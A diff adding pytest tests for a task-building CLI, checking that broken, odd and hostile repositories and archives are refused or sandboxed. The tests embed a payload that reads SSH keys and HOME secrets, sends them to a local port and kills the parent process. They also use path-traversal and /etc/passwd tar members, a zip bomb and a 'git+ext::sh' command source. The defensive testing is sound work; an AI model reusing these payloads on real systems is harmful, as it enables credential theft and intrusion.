@@ -1,0 +1,589 @@
+"""Repositories that are broken, odd or hostile, through the command line: refused in one sentence, or used.
+
+What a hostile one tries must not be seen outside the sandbox; each such test also shows
+that its trap works.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import subprocess
+import sys
+import tarfile
+import zipfile
+from collections.abc import Callable, Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from composer_replication.tasks import archives
+from composer_replication.tasks.store import TaskStore
+
+Command = Callable[..., Any]
+Make = Callable[..., Path]
+TINY = Path(__file__).parents[2] / "recipes" / "tiny-cpu" / "project"
+PYPROJECT = '[project]\nname = "planted"\nversion = "1"\n'
+MODULE = """def triple(x):
+    y = x + x + x
+    return y
+
+
+def double(x):
+    y = x + x
+    return y
+"""
+TESTS = """import planted
+
+
+def test_triple():
+    assert planted.triple(2) == 6
+
+
+def test_double():
+    assert planted.double(2) == 4
+
+
+def test_double_more():
+    assert planted.double(5) == 10
+"""
+PIN = "planted.py::double"
+GOOD = {"pyproject.toml": PYPROJECT, "planted.py": MODULE, "tests/test_planted.py": TESTS}
+
+
+@pytest.fixture
+def make(tmp_path: Path) -> Make:
+    """Writes a project; ``GOOD`` with changes, None takes a file away."""
+
+    def write(changes: Mapping[str, str | bytes | None] = {}, *, base: Mapping[str, str] = GOOD) -> Path:
+        root = tmp_path / "project"
+        for name, text in {**base, **changes}.items():
+            if text is not None:
+                (root / name).parent.mkdir(parents=True, exist_ok=True)
+                (root / name).write_bytes(text if isinstance(text, bytes) else text.encode())
+        return root
+
+    return write
+
+
+@pytest.fixture
+def builds(command: Command, tmp_path: Path) -> Callable[..., TaskStore]:
+    """Builds one task of a project, which must work; gives the store."""
+
+    def build(source: object, pin: str = PIN, out: str = "out") -> TaskStore:
+        answer = command("tasks", "build", source, "--out", tmp_path / out, "--symbol", pin, fails=False)
+        assert answer.exit_code == 0, answer.err
+        assert json.loads(answer.out)["tasks"] == 1
+        store = TaskStore.open(tmp_path / out)
+        store.verify()
+        return store
+
+    return build
+
+
+@pytest.fixture
+def refused(command: Command, tmp_path: Path) -> Callable[..., str]:
+    """A build that must be refused, with exit code 4; gives the message."""
+
+    def build(source: object, code: str) -> str:
+        answer = command("tasks", "build", source, "--out", tmp_path / "out")
+        assert (answer.exit_code, answer.error["code"]) == (4, code), answer.err
+        assert not list((tmp_path / "out").glob("tasks/*.json"))
+        return str(answer.error["message"])
+
+    return build
+
+
+# --- tasks that are there already --------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("changes", "code"),
+    [
+        ({"tests/test_planted.py": "# none\n"}, "CR0404"),
+        ({"pyproject.toml": None}, "CR0403"),
+        ({"tests/test_planted.py": "def test_it():\n    raise OSError\n"}, "CR0425"),
+    ],
+)
+def test_good_tasks_stay_usable(
+    command: Command, make: Make, builds: Callable[..., TaskStore], tmp_path: Path,
+    changes: Mapping[str, str | None], code: str,
+) -> None:  # fmt: skip
+    """A build into the same folder fails; the tasks of the one before are whole, and can be built on."""
+    store = builds(TINY, "tinymath/text.py::initials")
+    fingerprint, before = store.fingerprint, store.tasks()
+    bad = make(changes)
+    words = [bad] if code == "CR0425" else [TINY, bad]
+    answer = command("tasks", "build", *words, "--out", tmp_path / "out")
+    assert answer.error["code"] == code
+    after = TaskStore.open(tmp_path / "out")
+    after.verify()
+    assert (after.fingerprint, after.tasks()) == (fingerprint, before)
+    assert command("tasks", "show", tmp_path / "out", before[0].task_id, fails=False).exit_code == 0
+    assert builds(TINY, "tinymath/text.py::initials").fingerprint == fingerprint
+
+
+def test_a_bad_repository_beside_a_good_one_is_counted(command: Command, make: Make, tmp_path: Path) -> None:
+    bad = make({"tests/test_planted.py": "def test_it():\n    assert False\n"})
+    words = ("--out", tmp_path / "out", "--max-tasks", 1)
+    answer = command("tasks", "build", TINY, bad, *words, fails=False)
+    result = json.loads(answer.out)
+    assert (answer.exit_code, result["tasks"], result["rejected"]["red-baseline"]) == (0, 1, 1)
+
+
+# --- suites that are red in the sandbox ----------------------------------------------------------
+
+NETWORK = (
+    "import socket\ndef test_network():\n    socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
+)
+DISPLAY = "import os\ndef test_display():\n    assert os.environ['DISPLAY']\n"
+TKINTER = "import tkinter\ndef test_window():\n    tkinter.Tk().destroy()\n"
+
+
+@pytest.fixture
+def listening() -> Any:
+    """A port of this machine on which somebody answers."""
+    import socket
+
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        yield server.getsockname()[1]
+
+
+@pytest.mark.parametrize("text", [NETWORK, DISPLAY, TKINTER])
+def test_tests_that_need_what_a_sandbox_has_not(
+    make: Make, refused: Callable[..., str], listening: int, monkeypatch: pytest.MonkeyPatch, text: str
+) -> None:
+    monkeypatch.setenv("DISPLAY", ":0")
+    message = refused(make({"tests/test_planted.py": text.format(port=listening)}), "CR0419")
+    assert "red-baseline 1" in message
+    assert "0 of 1 tests are green" in message
+
+
+def test_a_few_such_tests_are_left_out(make: Make, builds: Callable[..., TaskStore], listening: int) -> None:
+    store = builds(
+        make({"tests/test_network.py": NETWORK.format(port=listening), "tests/test_display.py": DISPLAY})
+    )
+    (record,) = store.repositories()
+    assert record.num_collected == 5
+    assert {name.rpartition("::")[2] for name in record.green} == {
+        "test_triple",
+        "test_double",
+        "test_double_more",
+    }
+
+
+COMPILED = "from setuptools import setup, Extension\nsetup(name='planted', version='1', ext_modules=[Extension('planted._fast', ['fast.c'])])\n"
+MATURIN = PYPROJECT + '[build-system]\nrequires = ["maturin"]\nbuild-backend = "maturin"\n'
+
+
+@pytest.mark.parametrize(("name", "text"), [("setup.py", COMPILED), ("pyproject.toml", MATURIN)])
+def test_a_package_that_needs_its_compiled_part(
+    make: Make, refused: Callable[..., str], name: str, text: str
+) -> None:
+    package = {
+        "planted.py": None,
+        "planted/__init__.py": "from planted._fast import f\n" + MODULE,
+        "fast.c": "int x;\n",
+    }
+    message = refused(make({**package, name: text}), "CR0419")
+    assert "needs-compiling 1" in message
+    assert f"its {name} asks for compiled modules" in message
+
+
+def test_a_package_that_can_do_without_its_compiled_part(
+    make: Make, builds: Callable[..., TaskStore]
+) -> None:
+    faster = "try:\n    from planted_fast import double\nexcept ImportError:\n    pass\n"
+    builds(make({"setup.py": COMPILED, "planted.py": MODULE + "\n\n" + faster}))
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"packaging/__init__.py": MODULE},
+        {"src/pluggy.py": MODULE},
+        {"_pytest/planted.py": MODULE},
+    ],
+)
+def test_a_module_that_the_test_runner_has_too(
+    make: Make, refused: Callable[..., str], files: Mapping[str, str]
+) -> None:
+    assert "runner-dependency 1" in refused(make(files), "CR0419")
+
+
+# --- layouts that work -----------------------------------------------------------------------------
+
+
+def moved(
+    module: str, path: str, tests: str = "tests/test_planted.py", **more: str
+) -> tuple[dict[str, str | None], str]:
+    """The good project with its module elsewhere: changes, and the pin."""
+    text = TESTS.replace("import planted\n", f"import {module} as planted\n")
+    return {
+        "planted.py": None,
+        "tests/test_planted.py": None,
+        path: MODULE,
+        tests: text,
+        **more,
+    }, f"{path}::double"
+
+
+LAYOUTS = {
+    "src": moved("planted", "src/planted/__init__.py"),
+    "flat package": moved("planted", "planted/__init__.py"),
+    "lib": moved("planted", "lib/planted.py"),
+    "namespace in src": moved("space.planted", "src/space/planted/__init__.py"),
+    "namespace": moved("space.planted", "space/planted.py"),
+    "tests in the package": moved(
+        "planted", "planted/__init__.py", "planted/tests/test_planted.py", **{"planted/tests/__init__.py": ""}
+    ),
+    "two packages": moved("planted", "planted/__init__.py", **{"second/__init__.py": "from planted import triple\n"}),
+    "conftest at the top": moved(
+        "planted", "planted/__init__.py", **{"conftest.py": "import pytest\n@pytest.fixture(autouse=True)\ndef one():\n    yield\n"}
+    ),
+    "its own import mode": moved(
+        "planted", "src/planted/__init__.py", **{"pytest.ini": "[pytest]\naddopts = --import-mode=importlib --no-such-option\n"}
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", LAYOUTS)
+def test_a_layout_works(make: Make, builds: Callable[..., TaskStore], name: str) -> None:
+    changes, pin = LAYOUTS[name]
+    (task,) = builds(make(changes), pin).tasks()
+    assert task.symbol == "double"
+
+
+def test_a_suite_of_unittest_alone(make: Make, builds: Callable[..., TaskStore]) -> None:
+    head = "import unittest\nimport planted\n\n\nclass Doubles(unittest.TestCase):\n"
+    test = "    def test_{name}(self):\n        self.assertEqual(planted.{name}({x}), {y})\n\n"
+    text = head + test.format(name="double", x=1, y=2) + test.format(name="triple", x=1, y=3)
+    (task,) = builds(make({"tests/test_planted.py": text})).tasks()
+    assert task.tests.visible == ("tests/test_planted.py::Doubles::test_double",)
+
+
+# --- odd files -------------------------------------------------------------------------------------
+
+ODD = {
+    "broken.py": "def (\n",
+    "tests/test_broken.py": "import broken\n",
+    "tests/test_syntax.py": "def test(:\n",
+    "brackets.py": "x = " + "(" * 3000 + ")" * 3000 + "\n",
+    "minuses.py": "x = " + "-" * 50_000 + "1\n",
+    "sums.py": "def total():\n    return " + "+".join(["1"] * 20_000) + "\n",
+    "blocks.py": "".join(" " * depth + "if x:\n" for depth in range(90)) + " " * 90 + "pass\n",
+    "attributes.py": "def deep(x):\n    return x" + ".a" * 20_000 + "\n",
+    "one_line.py": "def long():\n    text = '" + "y" * 3_000_000 + "'\n    return text\n",
+    "many_names.py": "x = [" + "a, " * 300_000 + "]\n",
+    "latin.py": "# -*- coding: latin-1 -*-\ndef café():\n    x = 'é'\n    return x\n".encode("latin-1"),
+    "binary.py": b"x = '\xff\xfe'\n",
+    "zeros.py": b"x = 1\0\n",
+    "utf16.py": "def f():\n    return 1\n".encode("utf-16"),
+    "marked.py": b"\xef\xbb\xbfdef f():\n    y = 1\n    return y\n",
+    "unknown.py": b"# coding: no-such-codec\ndef f():\n    return 1\n",
+    "returns.py": b"def f():\r    y = 1\r    return y\r",
+    "tests/data/a file with spaces é ü 漢.txt": "x",
+    "tests/test_ümlaut with spaces.py": "import planted\n\n\ndef test_six():\n    assert planted.double(3) == 6\n",
+    "tests/data/" + "n" * 200 + ".txt": "x",
+}
+
+
+def test_odd_files_beside_good_ones(make: Make, builds: Callable[..., TaskStore]) -> None:
+    root = make(ODD)
+    (root / "loop").symlink_to(root)
+    (root / "tests" / "self").symlink_to("self")
+    (root / "tests" / "outside.py").symlink_to("/etc/passwd")
+    os.mkfifo(root / "tests" / "pipe.py")
+    (root / "tests" / os.fsdecode(b"\xff.txt")).write_text("not UTF-8")
+    (root / "tests" / "line\nbreak.txt").write_text("x")
+    store = builds(root)
+    (task,) = store.tasks()
+    (record,) = store.repositories()
+    assert "tests/test_ümlaut with spaces.py::test_six" in {
+        *task.tests.visible,
+        *task.tests.hidden,
+        *record.green,
+    }
+    assert "tests/data/a file with spaces é ü 漢.txt" in record.files
+    assert not [
+        name for name in record.files if "\n" in name or "loop" in name or "outside" in name or "pipe" in name
+    ]
+    assert set(record.broken_files) == {"tests/test_broken.py", "tests/test_syntax.py"}
+
+
+def test_odd_files_when_candidates_are_drawn(command: Command, make: Make, tmp_path: Path) -> None:
+    answer = command("tasks", "build", make(ODD), "--out", tmp_path / "out", "--max-tasks", 1, fails=False)
+    assert (answer.exit_code, json.loads(answer.out)["tasks"]) == (0, 1), answer.err
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "project = 3\n",
+        "project = [[1]]\n[tool.poetry]\ndependencies = [1]\ngroup = 3\n",
+        '[project]\nname = ["x"]\nversion = 3\ndependencies = {a = 1}\noptional-dependencies = [1]\n',
+        '[project]\nname = "planted"\n[dependency-groups]\na = [{include-group = "a"}, {include-group = ["b"]}, 3]\nb = 4\n',
+        '[project]\nname = "planted"\nversion = "/../../../../../../climbed"\n',
+        '[project]\nname = "../../climbed"\nversion = "1"\n[tool.poetry.dependencies]\nx = {version = 3}\n',
+    ],
+)  # fmt: skip
+def test_metadata_of_another_shape(make: Make, builds: Callable[..., TaskStore], text: str) -> None:
+    (record,) = builds(make({"pyproject.toml": text})).repositories()
+    assert not [
+        name for name in record.files if "climbed" in name.partition("/")[2] or ".." in name.split("/")
+    ]
+
+
+def test_a_setup_py_that_no_parser_can_take(make: Make, builds: Callable[..., TaskStore]) -> None:
+    deep = "install_requires=" + "[" * 5000 + "]" * 5000
+    builds(make({"setup.py": f"from setuptools import setup\nsetup({deep})\n"}))
+
+
+@pytest.mark.slow
+def test_a_repository_of_a_hundred_thousand_lines(command: Command, make: Make, tmp_path: Path) -> None:
+    functions = [
+        f"def f{{module}}_{n}(x):\n    y = x + {n}\n    return y - {{module}}\n\n\n" for n in range(100)
+    ]
+    modules = {f"planted/m{module}.py": "".join(functions).format(module=module) for module in range(200)}
+    assert sum(text.count("\n") for text in modules.values()) == 100_000
+    tests = "from planted import m3, m4\n\n\ndef test_a():\n    assert m3.f3_1(1) == -1\n\n\ndef test_b():\n    assert m4.f4_2(1) == -1\n"
+    root = make({"planted.py": None, "planted/__init__.py": "", "tests/test_planted.py": tests, **modules})
+    answer = command("tasks", "build", root, "--out", tmp_path / "out", "--max-tasks", 1, fails=False)
+    assert (answer.exit_code, json.loads(answer.out)["tasks"]) == (0, 1), answer.err
+
+
+# --- hostile repositories ----------------------------------------------------------------------------
+
+TRIES = """
+import os, pathlib, signal, socket
+marker, secret, port = {marker!r}, {secret!r}, {port}
+def try_all():
+    stolen = ""
+    for path in (secret, os.path.expanduser("~/.ssh/id_rsa"), os.path.join(os.environ.get("HOME", "/"), "secret")):
+        try:
+            stolen += pathlib.Path(path).read_text()
+        except OSError:
+            pass
+    for attempt in (
+        lambda: pathlib.Path(marker).write_text("written " + stolen),
+        lambda: pathlib.Path(__file__).resolve().parents[3].joinpath("climbed").write_text("x"),
+        lambda: os.symlink("/etc/passwd", marker + "-link"),
+        lambda: socket.create_connection(("127.0.0.1", port), timeout=5).sendall(b"stolen " + stolen.encode()),
+        lambda: os.kill(os.getppid(), signal.SIGKILL) if os.getppid() > 1 else None,
+    ):
+        try:
+            attempt()
+        except OSError:
+            pass
+    return stolen
+found = try_all()
+"""
+
+
+@pytest.fixture
+def trap(tmp_path: Path, listening: int, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
+    """What a hostile file tries to reach: a marker to write, a secret in HOME, a port that answers."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "secret").write_text("s3cret")
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("COMPOSER_TEST_SECRET", "s3cret")
+    return {"marker": str(tmp_path / "marker"), "secret": str(home / "secret"), "port": listening}
+
+
+def test_the_trap_works(trap: dict[str, Any], tmp_path: Path) -> None:
+    """The same lines outside a sandbox: marker, link and secret are seen."""
+    (tmp_path / "a" / "b" / "c").mkdir(parents=True)
+    harmless = TRIES.replace("os.kill(os.getppid(), signal.SIGKILL)", "None")
+    (tmp_path / "a" / "b" / "c" / "run.py").write_text(harmless.format(**trap))
+    subprocess.run([sys.executable, tmp_path / "a" / "b" / "c" / "run.py"], check=True)
+    assert (
+        Path(trap["marker"]).read_text() == "written s3cret" * 2
+        or "s3cret" in Path(trap["marker"]).read_text()
+    )
+    assert (tmp_path / "climbed").exists()
+    assert Path(trap["marker"] + "-link").is_symlink()
+
+
+def seen_outside(tmp_path: Path) -> set[str]:
+    return {path.name for path in tmp_path.iterdir()} - {"project", "out", "home"}
+
+
+@pytest.mark.parametrize("place", ["conftest.py", "tests/conftest.py", "planted_plugin.py"])
+def test_a_hostile_conftest_reaches_nothing(
+    make: Make, builds: Callable[..., TaskStore], trap: dict[str, Any], tmp_path: Path, place: str
+) -> None:
+    guard = "\nassert not found, 'a secret was read'\nassert not os.environ.get('COMPOSER_TEST_SECRET')\n"
+    more = {"conftest.py": "pytest_plugins = ['planted_plugin']\n"} if place == "planted_plugin.py" else {}
+    root = make({**more, place: TRIES.format(**trap) + guard})
+    before = {path: path.read_bytes() for path in root.rglob("*") if path.is_file()}
+    builds(root)
+    assert seen_outside(tmp_path) == set()
+    assert {path: path.read_bytes() for path in root.rglob("*") if path.is_file()} == before
+    assert [path.name for path in (tmp_path / "home").iterdir()] == ["secret"]
+
+
+def test_a_conftest_that_breaks_the_runner_is_red(make: Make, refused: Callable[..., str]) -> None:
+    assert "red-baseline" in refused(make({"conftest.py": "import os\nos._exit(0)\n"}), "CR0419")
+
+
+def test_a_conftest_that_forges_records_is_red(make: Make, refused: Callable[..., str]) -> None:
+    forged = json.dumps(
+        {"nonce": "0" * 32, "event": "test", "id": "tests/test_planted.py::test_triple", "outcome": "passed"}
+    )
+    text = f"import os\nfor descriptor in range(1, 20):\n    try:\n        os.write(descriptor, {(forged + chr(10)).encode()!r})\n    except OSError:\n        pass\nos._exit(0)\n"
+    assert "red-baseline" in refused(make({"conftest.py": text}), "CR0419")
+
+
+def test_setup_py_is_never_run(
+    make: Make, builds: Callable[..., TaskStore], trap: dict[str, Any], tmp_path: Path
+) -> None:
+    hostile = TRIES.format(**trap)
+    end = "\nfrom setuptools import setup\nsetup(name='planted', install_requires=[], cmdclass={})\n"
+    names = ("setup.py", "noxfile.py", "sitecustomize.py", "usercustomize.py", "hatch_build.py")
+    root = make({"pyproject.toml": None, **dict.fromkeys(names, hostile + end)})
+    with pytest.MonkeyPatch.context() as patch:
+        patch.chdir(root)  # neither when the project is the working directory
+        builds(root)
+    assert seen_outside(tmp_path) == set()
+    assert not Path(trap["marker"]).exists()
+
+
+# --- hostile archives ----------------------------------------------------------------------------------
+
+
+def tar_of(path: Path, *more: tarfile.TarInfo, members: Mapping[str, bytes] | None = None) -> Path:
+    files = {name: text.encode() for name, text in GOOD.items()} if members is None else members
+    with tarfile.open(path, "w:gz") as archive:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+        for info in more:
+            archive.addfile(info)
+    return path
+
+
+def special(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type, info.linkname = kind, target
+    return info
+
+
+@pytest.mark.parametrize(
+    ("member", "words"),
+    [
+        (special("../climbed.py", tarfile.REGTYPE), "leaves the archive"),
+        (special("/tmp/climbed.py", tarfile.REGTYPE), "leaves the archive"),
+        (special("link.py", tarfile.SYMTYPE, "../../outside"), "points outside"),
+        (special("link.py", tarfile.SYMTYPE, "/etc/passwd"), "points outside"),
+        (special("link.py", tarfile.LNKTYPE, "/etc/passwd"), "points outside"),
+        (special("null.py", tarfile.CHRTYPE), "a device or a pipe"),
+        (special("disk.py", tarfile.BLKTYPE), "a device or a pipe"),
+        (special("pipe.py", tarfile.FIFOTYPE), "a device or a pipe"),
+    ],
+)
+def test_a_hostile_member_is_refused(
+    refused: Callable[..., str], tmp_path: Path, member: tarfile.TarInfo, words: str
+) -> None:
+    message = refused(tar_of(tmp_path / "evil.tar.gz", member), "CR0405")
+    assert words in message
+    assert {path.name for path in tmp_path.iterdir()} == {"evil.tar.gz"}
+
+
+def test_a_bomb_is_refused(refused: Callable[..., str], tmp_path: Path) -> None:
+    path = tmp_path / "bomb.zip"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for name, text in GOOD.items():
+            archive.writestr(name, text)
+        with archive.open("planted_data.py", "w") as member:
+            for _ in range(archives.MAX_MEMBER_BYTES // 2**20 + 1):
+                member.write(b"#" * 2**20)
+    assert path.stat().st_size < 200_000
+    assert "larger than 64 MiB" in refused(path, "CR0405")
+
+
+def test_too_many_members_are_refused(
+    refused: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(archives, "MAX_MEMBERS", 100)
+    path = tar_of(tmp_path / "many.tar.gz", *(tarfile.TarInfo(f"m{n}.py") for n in range(200)))
+    assert "more than 100 members" in refused(path, "CR0405")
+
+
+def test_an_archive_with_odd_names_works(builds: Callable[..., TaskStore], tmp_path: Path) -> None:
+    members = {name: text.encode() for name, text in GOOD.items()}
+    members |= {"tests/a b é.txt": b"x", "tests/line\nbreak.txt": b"x", os.fsdecode(b"tests/\xff.txt"): b"x"}
+    (record,) = builds(tar_of(tmp_path / "odd.tar.gz", members=members)).repositories()
+    assert sorted(name for name in record.files if name.endswith(".txt")) == ["tests/a b é.txt"]
+
+
+# --- git -------------------------------------------------------------------------------------------------
+
+
+def test_git_addresses(
+    command: Command, make: Make, builds: Callable[..., TaskStore], tmp_path: Path
+) -> None:
+    root = make()
+    for words in (
+        ["init", "--quiet"],
+        ["add", "."],
+        ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "one"],
+    ):
+        subprocess.run(["git", "-C", str(root), *words], check=True, capture_output=True)
+    folder = builds(root, out="from-folder")
+    store = builds(f"git+file://{root}")
+    assert store.fingerprint == folder.fingerprint
+    for source, code, exit_code in (
+        (f"git+file://{tmp_path}/absent@v1", "CR0441", 4),
+        (f"git+file://{root}@absent", "CR0442", 4),
+        (f"git+http://localhost/{root}", "CR0402", 4),
+        ("git+ext::sh -c true", "CR0402", 4),
+    ):
+        answer = command("tasks", "build", source, "--out", tmp_path / "none")
+        assert (answer.exit_code, answer.error["code"]) == (exit_code, code)
+        assert not (tmp_path / "none").exists()
+
+
+# --- the disk, and two at once -----------------------------------------------------------------------------
+
+
+def start(*words: object, most_bytes: int = -1) -> subprocess.Popen[str]:
+    limit = f"import resource\nresource.setrlimit(resource.RLIMIT_FSIZE, ({most_bytes}, -1))\n"
+    code = f"{limit}from composer_replication.cli.main import main\nimport sys\nsys.exit(main())"
+    command = [sys.executable, "-c", code, *map(str, words), "--quiet", "--json"]
+    return subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+
+
+def test_a_full_disk_leaves_the_tasks_of_before(builds: Callable[..., TaskStore], tmp_path: Path) -> None:
+    one, two = "tinymath/text.py::initials", "tinymath/numbers.py::clamp"
+    store = builds(TINY, one)
+    fingerprint = store.fingerprint
+    words = ("tasks", "build", TINY, "--out", tmp_path / "out", f"--symbol={one}", f"--symbol={two}")
+    full = start(*words, most_bytes=400)
+    out, err = full.communicate(timeout=110)
+    assert (full.returncode, json.loads(out)["error"]["code"]) == (3, "CR0104"), err
+    assert err.count("\n") == 1
+    after = TaskStore.open(tmp_path / "out")
+    after.verify()
+    assert (after.fingerprint, len(after.tasks())) == (fingerprint, 1)
+    again = start(*words)
+    assert again.wait(110) == 0
+    again.communicate()
+    assert len(TaskStore.open(tmp_path / "out").tasks()) == 2
+
+
+def test_two_builds_into_one_folder_at_once(make: Make, tmp_path: Path) -> None:
+    """One of them may be told that the folder is in use; never are there two halves."""
+    words = ("tasks", "build", make(), "--out", tmp_path / "out", "--symbol", PIN)
+    both = [start(*words), start(*words)]
+    answers = [(process.communicate(timeout=110), process.returncode) for process in both]
+    for (out, err), code in answers:
+        assert code in (0, 2), err
+        assert code == 0 or json.loads(out)["error"]["code"] == "CR0203"
+    assert 0 in [code for _, code in answers]
+    store = TaskStore.open(tmp_path / "out")
+    store.verify()
+    assert len(store.tasks()) == 1
